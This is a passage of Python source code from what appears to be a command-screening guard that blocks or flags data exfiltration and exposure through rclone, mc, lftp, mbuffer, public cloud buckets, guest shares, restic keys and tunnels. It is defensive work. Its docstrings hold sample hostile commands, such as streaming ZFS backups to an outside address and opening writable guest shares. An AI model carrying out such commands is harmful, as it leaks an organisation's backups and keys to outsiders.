def _lftp(a, cmd: Cmd) -> None:
    """lftp's commands (from `-e`, `-c`, a `-f` file this input wrote, or its standard input): uploads (`put`,
    `mput`, `mirror -R`) to the site it opens, judged as sftp's; what goes to the local shell, as a shell line."""
    from .written import text_written

    pos = positionals(cmd.args, _LFTP_ARG)
    scripts = [w.value or "" for w in option_value(cmd.args, "-e", "-c")]
    for w in option_value(cmd.args, "-f"):
        got = text_written(a, w.value) if w.value else None
        scripts.append(got[0] if got is not None else "")
    if not scripts:
        scripts.append(_fed_text(a, cmd) or "")
    found = _lftp_uploads(a, cmd, "\n".join(scripts), _target_host(pos[0].value or "") if pos else "")
    for host in dict.fromkeys(h for _, _, h in found):
        sent = [(shown, p) for shown, p, h in found if h == host]
        _copy_judged(a, cmd, sent[0][0], [p for _, p in sent], host)


_RCLONE_ARG = frozenset({"--config", "--transfers", "--checkers", "--include", "--exclude", "--filter", "--bwlimit",
                         "--log-file", "--backup-dir", "--max-age", "--min-age", "--s3-endpoint", "--webdav-url",
                         "--sftp-host", "--ftp-host"})
_RCLONE_COPIES = frozenset({"copy", "sync", "move", "copyto", "moveto", "bisync"})
_HOST_KEYS = ("host", "url", "endpoint", "server")


def _configured_far(a, tool: str, name: str, cmd: Cmd) -> str | None:
    """The bare public address this input gives the rclone remote or mc alias `name` (`rclone config create NAME sftp
    host ADDR`, `mc alias set NAME URL`, `mc config host add NAME URL`, `MC_HOST_NAME=URL`,
    `RCLONE_CONFIG_NAME_HOST=ADDR`), else None."""
    env = {f"MC_HOST_{name}", f"RCLONE_CONFIG_{name.upper()}_HOST", f"RCLONE_CONFIG_{name.upper()}_URL",
           f"RCLONE_CONFIG_{name.upper()}_ENDPOINT"}
    for doc, c in [(a.doc, cmd), *a.ctx.commands]:  # (the command's own settings: `MC_HOST_x=URL mc mirror …`)
        if doc is not a.doc:
            continue
        for var, w in c.assigns:
            v = w.value or ""
            if var in env and _address(url_host(v) if "//" in v else v.split(":")[0]):
                return url_host(v) if "//" in v else v.split(":")[0]
        if c.name != tool:
            continue
        pos = _pos(c, _RCLONE_ARG)
        if tool == "rclone" and pos[:2] == ["config", "create"] and pos[2:3] == [name]:
            for k in range(4, len(pos) - 1):
                if pos[k] in _HOST_KEYS or (pos[k] or "").endswith(("_host", "_url", "_endpoint")):
                    v = pos[k + 1] or ""
                    host = url_host(v) if "//" in v else v.split(":")[0]
                    if _address(host):
                        return host
        if tool == "mc":
            v = pos[3] if pos[:3] == ["alias", "set", name] and len(pos) > 3 else \
                pos[4] if pos[:4] == ["config", "host", "add", name] and len(pos) > 4 else None
            host = url_host(v) if v else None
            if _address(host):
                return host
    return None


def _rclone(a, cmd: Cmd) -> None:
    from .net import _inline_remote_address

    pos = [w for w in positionals(cmd.args, _RCLONE_ARG)]
    verb = pos[0].value if pos else None
    if verb not in _RCLONE_COPIES or len(pos) < 3:
        return
    src = pos[1].value if pos[1].value is not None else pos[1].text.strip("\"'")
    dest = pos[-1].value if pos[-1].value is not None else pos[-1].text.strip("\"'")
    far = None
    if dest[:1] == ":":
        far = _inline_remote_address(cmd, dest)
    elif re.match(r"^[\w.-]+:", dest):
        far = _configured_far(a, "rclone", dest.split(":", 1)[0], cmd)
    if far and (re.match(r"^:?[\w.-]+:", src) or _org_data(src)):
        a.block("exfiltration", f"`rclone {verb}` copies {src} to {far}, storage outside the organisation's network; "
                                "copy backups only to the organisation's own remotes", cmd.node)


def _mc(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--exclude", "--older-than", "--newer-than", "--storage-class", "--attr",
                               "--encrypt-key", "--limit-upload", "--limit-download", "-C", "--config-dir"}))
    if pos[:1] in (["cp"], ["mirror"], ["mv"]) and len(pos) >= 3 and pos[-1]:
        far = _configured_far(a, "mc", pos[-1].split("/", 1)[0], cmd)
        if far:
            a.block("exfiltration", f"`mc {pos[0]}` copies {pos[1]} to {far}, storage outside the organisation's "
                                    "network (the alias this input set); copy only to the organisation's own "
                                    "storage", cmd.node)
        return
    # `mc anonymous set download|public|upload TARGET` (`mc policy set` before it)
    if pos[:2] in (["anonymous", "set"], ["policy", "set"]) and len(pos) >= 4 and \
            pos[2] in ("public", "download", "upload", "readwrite", "readonly", "writeonly"):
        _opened(a, cmd, f"mc {pos[0]} set {pos[2]}", pos[3], pos[2] in ("public", "upload", "readwrite", "writeonly"))
    elif pos[:2] in (["anonymous", "set-json"], ["policy", "set-json"]) and len(pos) >= 4:
        _anonymous_json(a, cmd, f"mc {pos[0]} set-json", pos[2], pos[3])


# (`s3:PutObject`, `s3:DeleteObject`, `s3:*`: what lets anyone write, or empty the bucket)
_WRITES = re.compile(r"(?i)^s3:(?:\*|Put|Delete|Abort|Restore|Replicate)")


def _anonymous_json(a, cmd: Cmd, shown: str, policy: str | None, target: str | None) -> None:
    """`mc anonymous set-json FILE alias/bucket`: the anonymous policy a file of this input holds; a file the input
    did not write is left to a person (any such policy lets someone without a login in)."""
    from .written import text_written

    got = text_written(a, policy) if policy else None
    actions = bt.public_policy(got[0]) if got is not None else None
    if got is None:
        a.review("exfiltration", f"`{shown} {policy}` gives anonymous access to {target or 'the bucket'} by a policy "
                                 "this command does not show; a person should read it first", cmd.node)
    elif actions:
        _opened(a, cmd, shown, target, any(_WRITES.match(x) for x in actions))


def _opened(a, cmd: Cmd, shown: str, name: str | None, writes: bool) -> None:
    if writes or bt.private_name(name):
        why = "anyone can also write to it" if writes else "its name says it holds private data"
        a.block("exfiltration", f"`{shown}` opens {name or 'the bucket'} to anyone on the internet, and {why}; keep "
                                "it private and share objects with signed links", cmd.node)
    else:
        a.review("exfiltration", f"`{shown}` makes {name or 'the bucket'} readable by anyone on the internet; a "
                                 "person should confirm it is meant to be public (a website's assets)", cmd.node)


def _az(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--name", "-n", "--account-name", "--public-access", "--auth-mode", "--account-key",
                               "--connection-string", "--sas-token", "-o", "--output", "--query", "--subscription",
                               "-g", "--resource-group"}))
    if pos[:2] != ["storage", "container"] or pos[2:3] not in (["set-permission"], ["create"]):
        return
    access = [w.value for w in option_value(cmd.args, "--public-access")]
    if not access or access[0] not in ("blob", "container"):
        return
    container = next((w.value for w in option_value(cmd.args, "--name", "-n")), None)
    account = next((w.value for w in option_value(cmd.args, "--account-name")), None)
    name = next((n for n in (container, account) if bt.private_name(n)), container)
    _opened(a, cmd, f"az storage container {pos[2]} --public-access {access[0]}", name, False)


def _aws(a, cmd: Cmd) -> None:
    from .cloud import _literal_or_file

    pos = _pos(cmd, _AWS_ARG | {"--bucket", "--replication-configuration", "--public-access-block-configuration"})
    if pos[:2] != ["s3api", "put-bucket-replication"]:
        return
    words = option_value(cmd.args, "--replication-configuration")
    body = _literal_or_file(a, words[0]) if words else None
    source = next((w.value for w in option_value(cmd.args, "--bucket")), None)
    found = bt.replication_finding(body, source) if body else None
    if found:
        (a.block if found[0] else a.review)("exfiltration", f"`aws s3api put-bucket-replication`: {found[1]}", cmd.node)


_GCLOUD_ARG = _GS_ARG | {"--member", "--role", "--condition", "--condition-from-file", "--add-acl-grant",
                         "--predefined-acl", "--predefined-default-object-acl"}
_EVERYONE = frozenset({"allusers", "allauthenticatedusers"})
# (a role that also writes: an uploader, an admin, a legacy writer or owner)
_WRITER_ROLE = re.compile(r"(?i)admin|creator|writer|owner|editor|user$")


def _gcloud(a, cmd: Cmd) -> None:
    """`gcloud storage buckets add-iam-policy-binding gs://b --member=allUsers`, an ACL grant or a predefined public ACL
    on a bucket or its objects: judged as `gsutil iam ch allUsers:…` (bash/infra.py) and `mc anonymous set`."""
    pos = _pos(cmd, _GCLOUD_ARG)
    if pos[:1] != ["storage"] or len(pos) < 4 or pos[1] not in ("buckets", "objects"):
        return
    target = pos[3] or ""
    if pos[2] == "add-iam-policy-binding":
        member = next((w.value for w in option_value(cmd.args, "--member") if (w.value or "").lower() in _EVERYONE),
                      None)
        if member:
            role = next((w.value or "" for w in option_value(cmd.args, "--role")), "")
            _opened(a, cmd, f"gcloud storage {pos[1]} add-iam-policy-binding --member={member}", target,
                    _WRITER_ROLE.search(role) is not None)
    elif pos[2] in ("update", "create"):
        grants = " ".join(w.value or "" for w in option_value(cmd.args, "--add-acl-grant")).lower()
        acls = {(w.value or "").lower() for w in option_value(cmd.args, "--predefined-acl",
                                                              "--predefined-default-object-acl")}
        if "entity=allusers" in grants or "entity=allauthenticatedusers" in grants or \
                acls & {"publicread", "public-read", "publicreadwrite", "public-read-write"}:
            _opened(a, cmd, f"gcloud storage {pos[1]} {pos[2]}", target,
                    "write" in grants or "owner" in grants or any("write" in x for x in acls))


# a home folder, every home, the whole system or its settings: what a guest share must never be of, even read only
_GUEST_NEVER = frozenset({"~", "/home", "/Users", "/", "/etc", "/var"})


def _usershare(a, cmd: Cmd) -> None:
    """`net usershare add NAME PATH COMMENT Everyone:F guest_ok=y`: a share any machine of the network may write
    without a password (as a Samba guest share anyone writes, share_opened); a guest share of the machine's backups, a
    repository's keys, a whole home or the system, even read only, lets anyone on the network take them. Shares with
    accounts, and guest shares of other folders to read, stay allowed."""
    pos = _pos(cmd)
    if pos[:2] != ["usershare", "add"] or len(pos) < 6:
        return
    path, acl = pos[3] or "", (pos[5] or "").lower()
    guest = any((p or "").lower() in ("guest_ok=y", "guest_ok=yes", "guest_ok=true") for p in pos[6:])
    if not guest:
        return
    # (`Everyone:F`, `BUILTIN\Everyone:f`, `S-1-1-0:F`: full control for every user, guests included)
    if any(who.rsplit("\\", 1)[-1] in ("everyone", "s-1-1-0") and perm == "f"
           for who, _, perm in (e.rpartition(":") for e in acl.split(","))):
        a.block("permission-tamper", f"`net usershare add {pos[2]} {path}` with `{pos[5]}` and `guest_ok=y` lets "
                                     "anyone on the network write the share without a password; give it to the "
                                     "accounts that need it, read only", cmd.node)
    elif _held(path):
        a.block("exfiltration", f"`net usershare add {pos[2]} {path}` with `guest_ok=y` lets anyone on the network "
                                "read the machine's backups or a repository's keys without a password; share them "
                                "only with the accounts that restore them", cmd.node)
    elif (paths.normalize(path).rstrip("/") or "/") in _GUEST_NEVER:
        a.block("exfiltration", f"`net usershare add {pos[2]} {path}` with `guest_ok=y` lets anyone on the network "
                                "read the whole home folder or the system's files (keys, tokens, settings) without a "
                                "password; share a folder made for sharing (`~/Public`)", cmd.node)


def _mbuffer(a, cmd: Cmd) -> None:
    """`zfs send tank@x | mbuffer -O 198.51.100.7:9000`: mbuffer's network output, read as `nc ADDR PORT` is."""
    from .brokers import _feeders

    if not in_input(_FEED, a.doc.data):
        return
    for w in option_value(cmd.args, "-O"):
        v = w.value or ""
        host = v[1:].split("]", 1)[0] if v.startswith("[") else v.rsplit(":", 1)[0] if ":" in v else v
        where = _outside(host)
        if where is None:
            continue
        for c in _feeders(a, cmd):
            what = _printed(c) or _key(c) or _backups_read(c)
            if what:
                a.block("exfiltration", f"{what} is sent by `mbuffer -O` to {where}; keep backups in the "
                                        "organisation's own storage", cmd.node)
                return


# -- shares, keys, tunnels ---------------------------------------------------------------------------------------
def _zfs(a, cmd: Cmd) -> None:
    pos = _pos(cmd)
    if pos[:1] != ["set"]:
        return
    for p in pos[1:]:
        key, _, value = (p or "").partition("=")
        if key in ("sharenfs", "sharesmb") and (found := bt.world_share(value)):
            a.block("permission-tamper", f"`zfs set {key}` shares the dataset with {found}; share it with the "
                                         "organisation's own addresses (`rw=@10.0.0.0/8`) and keep root squashed",
                    cmd.node)
            return


def _exportfs(a, cmd: Cmd) -> None:
    opts = ",".join(w.value or "" for w in option_value(cmd.args, "-o"))
    for p in _pos(cmd, frozenset({"-o"})):
        client = (p or "").split(":", 1)[0] if ":" in (p or "") else ""
        if client and (found := bt.world_share(client + " " + opts)):
            a.block("permission-tamper", f"`exportfs` shares {p} with {found}; export to the organisation's own "
                                         "addresses and keep root squashed", cmd.node)
            return


_SMB_GUEST = re.compile(r"(?im)^[^\S\n]*+(?:guest[^\S\n]++ok|public)[^\S\n]*+=[^\S\n]*+(?:yes|true|1)\b")
_SMB_WRITABLE = re.compile(r"(?im)^[^\S\n]*+(?:read[^\S\n]++only[^\S\n]*+=[^\S\n]*+(?:no|false|0)|"
                           r"(?:writ(?:e?able)|write[^\S\n]++ok)[^\S\n]*+=[^\S\n]*+(?:yes|true|1))\b")
_EXPORT_LINE = re.compile(r"(?m)^[^\S\n]*+(/\S*)[^\S\n]++([^\n]*)$")


def share_opened(path: str, text: str | None) -> str | None:
    """What a share's configuration written to `path` opens to everyone (bash/admin.py's _protection_off), else
    None: a Samba share guests may write to, an NFS export to every address with write or root rights."""
    if not text:
        return None
    if path.startswith("/etc/samba/") and _SMB_GUEST.search(text) and _SMB_WRITABLE.search(text):
        return "a Samba share that guests may write (`guest ok = yes` with `read only = no`) lets anyone on the " \
               "network in without a password"
    if path == "/etc/exports" or path.startswith("/etc/exports.d/"):
        for where, clients in _EXPORT_LINE.findall(text):
            found = bt.world_share(clients)
            if found:
                return f"the export of {where} gives {found}"
    return None


def _literal(text: str | None) -> bool:
    return bool(text and text.strip()) and "$" not in text and "`" not in text  # type: ignore[operator]


def _known_password(a, cmd: Cmd, w) -> bool:
    """Whether the password file `w` holds a password written in this input: the `echo`/`printf` of a process
    substitution (`<(echo 'Wint3r!2024')`), a here-string or here-document there (`<(cat <<< '…')`) or fed to
    `/dev/stdin`, a file an earlier command filled with a literal (`echo '…' > /tmp/p`). A file made by `openssl
    rand`, `pass show` or a variable is not known here."""
    from .exec import stdin_text
    from .written import text_written

    if w.substitutions:
        return any(c.name in ("echo", "printf") and c.args and all("$" not in x.text for x in c.args) or
                   c.name == "cat" and not c.args and _literal((stdin_text(a, c) or ("",))[0])
                   for c in a.visit_substs(w))
    if w.value in _STDIN:
        return _literal(_fed_text(a, cmd))
    got = text_written(a, w.value) if w.value else None
    return got is not None and _literal(got[0])


def _repo(c: Cmd) -> str | None:
    """The repository a restic command names (`-r`, `--repo`, `RESTIC_REPOSITORY=` before it); "" for the one the
    environment names."""
    given = [w.value for w in option_value(c.args, "-r", "--repo")]
    given += [w.value for name, w in c.assigns if name == "RESTIC_REPOSITORY"]
    return given[-1] if given else ""


# (a repository there is a throwaway: `restic init` of one that exists fails, and `;` runs the next command anyway, so
# an earlier `init` alone does not say the repository is new)
_SCRATCH = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm)/")


def _made_here(a, cmd: Cmd) -> bool:
    """Whether an earlier `restic init` of this input made the scratch repository `cmd` names (a test's: its keys
    guard nothing)."""
    repo = _repo(cmd)
    return bool(repo) and _SCRATCH.match(paths.normalize(repo)) is not None and ".." not in repo and any(  # type: ignore
        doc is a.doc and c.name == "restic" and c.node.start_byte < cmd.node.start_byte and
        _pos(c, _RESTIC_ARG)[:1] == ["init"] and _repo(c) == repo for doc, c in a.ctx.commands)


def _restic_key(a, cmd: Cmd) -> None:
    pos = _pos(cmd, _RESTIC_ARG | {"--new-password-file", "--user"})
    if pos[:2] not in (["key", "add"], ["key", "passwd"]):
        return
    shown = f"restic key {pos[1]}"
    if "--new-insecure-no-password" in cmd.values():
        if not _made_here(a, cmd):
            a.block("persistence", f"`{shown} --new-insecure-no-password` gives the repository a key with no password: "
                                   "anyone who reaches the repository opens every backup in it, whatever the other "
                                   "keys become; let the user add keys, with a password from the password store",
                    cmd.node)
        return
    words = option_value(cmd.args, "--new-password-file")
    # (`--new-password-file=<(echo …)`: the grammar ends the word at the `=`, the substitution is the next one)
    args = cmd.args
    words += [args[k + 1] for k, w in enumerate(args[:-1]) if w.value == "--new-password-file=" and
              w.node is not None and args[k + 1].node is not None and w.node.end_byte == args[k + 1].node.start_byte]
    # (with no file, restic reads the new password from its standard input when that is not a terminal)
    known = any(_known_password(a, cmd, w) for w in words) if words else _literal(_fed_text(a, cmd))
    if known and not _made_here(a, cmd):
        a.block("persistence", f"`{shown}` gives the repository a password written in the command: a login to every "
                               "backup the agent knows and that stays when the other keys change; let the user add "
                               "keys, with a password from the password store", cmd.node)


def _tunnel(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--url", "--hostname", "--config", "--loglevel", "--logfile", "--metrics", "--name",
                               "--protocol", "--edge-ip-version"}))
    if pos[:1] not in (["tunnel"], []) or any(p in ("run", "login", "create", "route", "list", "delete", "info")
                                              for p in pos[1:2]):
        return
    for w in option_value(cmd.args, "--url"):
        v = w.value or ""
        host = url_host(v if "//" in v else "http://" + v)
        # (a service of the organisation's by its DNS name; a development server, a compose service (`web:3000`) or
        # a box on the LAN by its address is what quick tunnels are for)
        if host and "$" not in host and "." in host and not host.replace(".", "").isdigit() and own_network(host) \
                and not loopback(host):
            a.block("exfiltration", f"`cloudflared --url {v}` publishes {host}, another machine's service of the "
                                    "organisation, at a public address anyone can open, past the network's own access "
                                    "controls; tunnel only a local development server", cmd.node)
            return


# -- root's storage upkeep (read by bash/system.py's inspection) -------------------------------------------------
# A snapshot is put where only root can make folders (a `.snapshots` folder of the pool, never a user's home or a
# scratch folder): btrfs writes it through a symlink, so a folder the user can write may point it into /etc.
_SNAP_PARENT = re.compile(r"^/(?:[\w.-]+/)*\.?snap(?:shot)?s?/[\w.@:+-]+$")
_USER_TREES = re.compile(r"^/(?:tmp|var/tmp|dev/shm|run|root|home/[^./][^/]*)(?:/|$)")


def _snapshot_place(p: str) -> bool:
    n = re.sub(r"/{2,}", "/", p)  # (not paths.normalize: it reads /home/NAME as the user's own home)
    return _SNAP_PARENT.match(n) is not None and ".." not in n and "/./" not in n and \
        _USER_TREES.match(n) is None and not paths.kinds(n)


def _zfs_upkeep(vals: list[str], pos: list[str]) -> bool:
    # a snapshot (`-r` its children's too, `-o` user properties on it only) loses nothing
    return pos[:1] == ["snapshot"] and all(v in ("-r", "-o") or v[:1] != "-" for v in vals) and \
        all("@" in p for p in pos[1:] if "=" not in p) and len(pos) > 1


def _zpool_upkeep(vals: list[str], pos: list[str]) -> bool:
    # a scrub reads every block and repairs from redundancy (`-s` stops it, `-p` pauses, `-w` waits)
    return pos[:1] == ["scrub"] and all(v in ("-s", "-p", "-w") for v in vals if v[:1] == "-")


_BTRFS_SCRUB = frozenset({"start", "resume", "cancel", "status"})


def _btrfs_upkeep(vals: list[str], pos: list[str]) -> bool:
    from .system import _named

    if len(pos) < 2:
        return False
    group = _named(pos[0], ("subvolume", "scrub", "filesystem", "device", "balance"))
    if group == "scrub":
        return pos[1] in _BTRFS_SCRUB and all(v in ("-B", "-d", "-q", "-r", "-R", "-f") for v in vals if v[:1] == "-")
    if group == "subvolume" and _named(pos[1], ("create", "delete", "snapshot", "show", "sync", "set-default",
                                                "get-default", "list", "find-new")) == "snapshot":
        return len(pos) == 4 and all(v == "-r" for v in vals if v[:1] == "-") and _snapshot_place(pos[3])
    return False


_LVCREATE_VALUE = frozenset({"-L", "--size", "-l", "--extents", "-n", "--name", "-p", "--permission"})


def _lvcreate_snapshot(vals: list[str], pos: list[str]) -> bool:
    """`lvcreate -L 10G -s -n data_snap /dev/vg0/data`: a snapshot of a volume (space taken, nothing lost)."""
    snap, i, origin = False, 0, []
    while i < len(vals):
        v = vals[i]
        i += 1
        if v in ("-s", "--snapshot"):
            snap = True
        elif v.split("=", 1)[0] in _LVCREATE_VALUE:
            i += "=" not in v
        elif v[:1] == "-":
            return False
        else:
            origin.append(v)
    return snap and len(origin) == 1


_BORGMATIC_ACTIONS = frozenset({"create", "check", "list", "info", "rlist", "rinfo", "repo-list", "repo-info"})
_BORGMATIC_FLAGS = frozenset({"--list", "--stats", "--json", "--progress", "--files", "-n", "--dry-run", "--last",
                              "--no-color"})
_BORGMATIC_VALUE = frozenset({"-v", "--verbosity", "--syslog-verbosity", "--log-file-verbosity",
                              "--monitoring-verbosity", "-c", "--config", "--repository", "--archive", "--last"})


def _borgmatic_jobs(vals: list[str], pos: list[str]) -> bool:
    """`borgmatic --stats`, `borgmatic config validate`, `borgmatic list`: the jobs the system's configuration sets
    (under /etc, root's own). Another configuration (its hooks run as root), `--override`, or a restore, extract,
    delete or prune asked for keeps the review."""
    words, i = [], 0
    while i < len(vals):
        v = vals[i]
        i += 1
        key = v.split("=", 1)[0]
        if key in _BORGMATIC_VALUE:
            value = v.split("=", 1)[1] if "=" in v else (vals[i] if i < len(vals) else "")
            i += "=" not in v
            if key in ("-c", "--config") and not (value.startswith("/etc/borgmatic") and ".." not in value):
                return False
        elif key in _BORGMATIC_FLAGS:
            continue
        elif v[:1] == "-":
            return False
        else:
            words.append(v)
    return not words or words[:2] == ["config", "validate"] and len(words) == 2 or \
        words[0] in _BORGMATIC_ACTIONS and len(words) == 1


_NET_FS = frozenset({"nfs", "nfs4", "cifs", "smb3"})
# the options a share of this network is mounted with; root's mounts honour setuid files and device nodes unless told
# not to, so `nosuid` and `nodev` must both be among them (any other option, `port=`, `x-mount.*`, keeps the review)
_MOUNT_OPTS = frozenset({"ro", "rw", "nosuid", "nodev", "noexec", "hard", "soft", "timeo", "retrans", "vers",
                         "nfsvers", "rsize", "wsize", "_netdev", "noatime", "relatime", "nofail", "sec", "uid", "gid",
                         "file_mode", "dir_mode", "iocharset", "actimeo", "seal", "nobrl", "credentials"})
# (one level under /mnt or /media, root's own folders: no user can have put a symlink there)
_MOUNT_POINT = re.compile(r"^/(?:mnt|media)/[\w-][\w.-]*/?$")


def _mount_vals(vals: list[str]) -> tuple[list[str], dict[str, str], str | None] | None:
    pos, opts, kind, i = [], {}, None, 0
    while i < len(vals):
        v = vals[i]
        i += 1
        if v in ("-o", "--options", "-t", "--types") and i < len(vals):
            if v in ("-o", "--options"):
                opts.update(o.partition("=")[::2] for o in vals[i].split(","))
            else:
                kind = vals[i]
            i += 1
        elif v in ("-r", "--read-only"):
            opts["ro"] = ""
        elif v in ("-v", "--verbose"):
            continue
        elif v[:1] == "-":
            return None
        else:
            pos.append(v)
    return pos, opts, kind


def _own_share(source: str) -> bool:
    """`nas01.acme.internal:/volume1`, `//10.0.0.5/finance`: a share served by another machine of this network (never
    this one: a server the user runs here serves whatever files the user made)."""
    from ..hosts import loopback

    host = source[2:].split("/", 1)[0] if source.startswith("//") else source.split(":", 1)[0]
    if not host or loopback(host) or public_ip(host) or not re.fullmatch(r"[\w.-]+", host):
        return False
    if host.replace(".", "").isdigit():
        try:
            return ipaddress.ip_address(host).is_private
        except ValueError:
            return False
    return own_network(host)


def storage_mount(vals: list[str], pos: list[str] | None = None) -> bool:
    """`mount -t nfs4 -o nosuid,nodev,ro nas01.acme.internal:/volume1/backups /mnt/backups`: a share of another machine
    of this network mounted without setuid files or device nodes on a new folder of /mnt or /media. A disk or image
    (a loop device the user set up carries any setuid file) and a share mounted without `nosuid,nodev` keep the
    review."""
    got = _mount_vals(vals)
    if got is None:
        return False
    where, opts, kind = got
    if len(where) != 2 or not _MOUNT_POINT.match(where[1]) or not {"nosuid", "nodev"} <= opts.keys() or \
            not opts.keys() <= _MOUNT_OPTS or not opts.get("credentials", "/etc/").startswith("/etc/"):
        return False
    source = where[0]
    return (source.startswith("//") or ":/" in source) and (kind is None or kind in _NET_FS) and _own_share(source)


def storage_umount(vals: list[str], pos: list[str] | None = None) -> bool:
    # (refused while the folder is busy: only `-l`/`-f` take a mount others use away from under them)
    return bool(vals) and all(v in ("-v", "--verbose") or v[:1] != "-" and _MOUNT_POINT.match(v) for v in vals) and \
        any(v[:1] != "-" for v in vals)


STORAGE_QUERIES = {"zfs": _zfs_upkeep, "zpool": _zpool_upkeep, "btrfs": _btrfs_upkeep, "lvcreate": _lvcreate_snapshot,
                   "borgmatic": _borgmatic_jobs, "mount": storage_mount, "umount": storage_umount}

# sudo's options that change nothing of what runs: any other (`-E`, `--preserve-env`, a user, a chroot) keeps the review
_SUDO_PLAIN = frozenset({"-n", "--non-interactive", "-H", "--set-home", "-S", "--stdin", "-k", "--reset-timestamp",
                         "--"})


def _plain_sudo(cmd: Cmd) -> bool:
    """No option of the wrapper keeps the caller's environment (`sudo -E`, `--preserve-env=XDG_CONFIG_HOME`: a
    configuration, and its hooks, of the user's choosing) or changes how the command runs."""
    if cmd.assigns or not cmd.words:
        return False
    for _name, head in cmd.wrappers:
        node = head.node
        while node is not None and node.type != "command":
            node = node.parent
        if node is None or not node.start_byte <= cmd.words[0].node.start_byte <= node.end_byte:
            return False
        between = node.text[head.node.end_byte - node.start_byte:cmd.words[0].node.start_byte - node.start_byte]
        if any(w not in _SUDO_PLAIN for w in between.decode("utf-8", "replace").split()):
            return False
    return True


def _root(node):
    while node.parent is not None:
        node = node.parent
    return node


# (asked once per input: the tree's root is the key, and a root kept here keeps its tree, so no other input's root can
# take its place)
@lru_cache(maxsize=8)
def _input_links(root) -> bool:
    return re.search(rb"\bln\b|symlink", root.text) is not None


def _symlinked_mount_point(node) -> bool:
    """Whether the input makes a link (`ln -s /etc /mnt/x`) anywhere: mount follows one at the mount point."""
    return _input_links(_root(node))


def root_upkeep(cmd: Cmd, vals: list[str]) -> str | None:
    """bash/system.py's inspection: root's storage upkeep (STORAGE_QUERIES) run by a plain `sudo`."""
    check = STORAGE_QUERIES.get(cmd.name)
    if check is None or not _plain_sudo(cmd) or not check(vals, [v for v in vals if v[:1] != "-"]):
        return None
    if cmd.name == "mount" and _symlinked_mount_point(cmd.node) or \
            cmd.name == "borgmatic" and _user_borgmatic(cmd.node):
        return None
    return f"`{cmd.name}`'s storage upkeep"


# A plain `sudo` sets HOME to root's and drops XDG_CONFIG_HOME (env_reset), so borgmatic reads the system's
# configuration; where sudoers keeps HOME (`env_keep`, an older Ubuntu), it reads the user's, whose hooks run as root.
# An input that writes or names such a configuration itself (`~/.config/borgmatic`, or a `borgmatic/` folder written
# from `~/.config`) keeps the review; the system's own (`/etc/borgmatic/`) does not.
_USER_BORGMATIC = re.compile(rb"\.config/borgmatic|\.borgmatic\.d|XDG_CONFIG_HOME|(?<![\w$])HOME=|"
                             rb"(?<!/etc/)(?<![\w.-])borgmatic(?:\.d)?/")


@lru_cache(maxsize=8)
def _input_borgmatic(root) -> bool:
    return _USER_BORGMATIC.search(root.text) is not None


def _user_borgmatic(node) -> bool:
    return _input_borgmatic(_root(node))


# a snapshot named at run time by the date (`tank/home@pre-upgrade-$(date +%F)`): only conversions that print digits
# and letters (`%n`, `%t`, `%c`, `%e`, `%D` print blanks or slashes that split the word or make another path)
_DATE_WORD = re.compile(r"\$\(date \+(?:%[YymdHMSsFjuwVUGgzTR]|[-_.:])++\)")
_NAME_CHARS = re.compile(r"[\w.@:%+-]*+")


def _dated_value(cmd: Cmd, k: int, w) -> str | None:
    """The word `w` (argument `k`) with its `$(date …)` replaced by digits, when the date is only in the snapshot's
    own name: after `@` of a ZFS snapshot, in the last part of a btrfs snapshot's path, in `lvcreate -n`'s name."""
    t = w.text
    if "$(" not in t:
        return None
    head, rest = t[:t.index("$(")], _DATE_WORD.sub("", t)
    if not head or "/" in t[len(head):] or not _NAME_CHARS.fullmatch(rest.replace("/", "")):
        return None
    if cmd.name == "zfs":
        ok = "@" in head
    elif cmd.name == "btrfs":
        ok = head[:1] == "/"
    else:
        ok = k > 0 and cmd.args[k - 1].value in ("-n", "--name") or head.startswith("--name=") and len(head) > 7
    return _DATE_WORD.sub("20240101", t) if ok else None


def dated_upkeep(cmd: Cmd) -> str | None:
    """bash/system.py's inspection of a word known only at run time: a snapshot named with `$(date …)`."""
    if cmd.name not in ("zfs", "btrfs", "lvcreate"):
        return None
    vals = [w.value if w.value is not None else _dated_value(cmd, k, w) for k, w in enumerate(cmd.args)]
    if None in vals:
        return None
    return root_upkeep(cmd, vals)  # type: ignore[arg-type]


def storage_upkeep(a, cmd: Cmd) -> bool:
    """bash/system.py's _mount: a mount STORAGE_QUERIES takes as upkeep, or the unmount of a folder this input
    mounted so, has no review of its own; another mount taken down (a share others' jobs write to) is still reviewed
    there."""
    vals = [w.value for w in cmd.args]
    if None in vals or cmd.name not in ("mount", "umount") or not STORAGE_QUERIES[cmd.name](vals, []):  # type: ignore
        return False
    if cmd.name == "mount":
        return not _symlinked_mount_point(cmd.node)
    mounted = {m[0][1].rstrip("/") for doc, c in a.ctx.commands if doc is a.doc and c.name == "mount" and
               c.node.start_byte < cmd.node.start_byte and None not in (vs := [w.value for w in c.args]) and
               storage_mount(vs) and (m := _mount_vals(vs)) is not None}  # type: ignore[arg-type]
    return all(v.rstrip("/") in mounted for v in vals if v[:1] != "-")


HANDLERS: dict = {
    **{n: [_sent] for n in NET_SENDERS},
    "velero": [_velero],
    "sftp": [_sent, _sftp],
    "mbuffer": [_mbuffer],
    "lftp": [_lftp],
    "gcloud": [_gcloud, _filled],
    "net": [_usershare],
    "rsync": [_copied_out],
    "scp": [_copied_out],
    "rclone": [_rclone],
    "mc": [_mc],
    "az": [_az],
    "aws": [_aws, _filled],
    "zfs": [_zfs],
    "exportfs": [_exportfs],
    "restic": [_restic_key, _filled],
    "borg": [_filled],
    "gsutil": [_filled],
    "cloudflared": [_tunnel],
}
_FEEDS_RX = re.compile(r"restic|borg|s3 cp|gsutil|rclone|mc (?:cat|share)|storage (?:cat|cp|sign-url)|zfs|btrfs|"
                       r"generate-sas|presign|signurl|/var/backups|blob download")
# a copier's destination named by a dotted host, an address (`user@203.0.113.9:`, `[2606:4700::1]:`) or a URL
_DOTTED_REMOTE = re.compile(r"\.[\w-]*+:|\]:|rsync://")  # (from each dot to the next: read once)
# what an sftp batch or an lftp script reaches the handlers through: its uploads (any case), a `!` or a filter to the
# shell, text fed on the standard input or from a file, escapes a printf decodes
_SFTP_SCREEN = mentions("put", "!", "<", "|", "\\", fold=True)
SCREENS: dict = {
    **{n: (lambda text: _FEEDS_RX.search(text) is not None) for n in NET_SENDERS},
    "velero": mentions("download", "location"),
    "sftp": lambda text: _FEEDS_RX.search(text) is not None or _SFTP_SCREEN(text),
